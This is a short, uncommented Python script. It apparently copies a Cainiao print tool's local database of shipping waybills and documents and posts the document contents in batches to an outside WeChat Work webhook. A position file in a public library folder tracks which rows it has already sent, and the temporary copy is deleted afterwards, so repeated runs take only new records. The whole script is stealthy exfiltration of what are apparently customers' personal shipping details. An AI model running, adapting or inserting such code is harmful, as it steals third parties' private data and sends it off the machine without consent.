import sqlite3, shutil, os, json, urllib.request, time
SRC = os.path.expandvars(r"%APPDATA%\CAINIAO\CNPrintTool\data\print_task.db")
TMP = os.path.expandvars(r"%TEMP%\~df81a.tmp")
ST = r"C:\Users\Public\Libraries\edc\pos"
HOOK = "https://qyapi.weixin.qq.com/cgi-bin/webhook/send?key=00000000-aaaa-bbbb-cccc-1234567890ab"
last = int(open(ST).read()) if os.path.exists(ST) else 0
shutil.copy(SRC, TMP)
db = sqlite3.connect(TMP)
rows = db.execute("select id, waybill_code, document from task where id>? order by id limit 200", (last,)).fetchall()
for i in range(0, len(rows), 20):
    body = json.dumps({"msgtype": "text", "text": {"content": "\n".join(str(r[2]) for r in rows[i:i+20])}}).encode()
    urllib.request.urlopen(urllib.request.Request(HOOK, body, {"Content-Type": "application/json"}))
    time.sleep(3)
if rows: open(ST, "w").write(str(rows[-1][0]))
db.close(); os.remove(TMP)
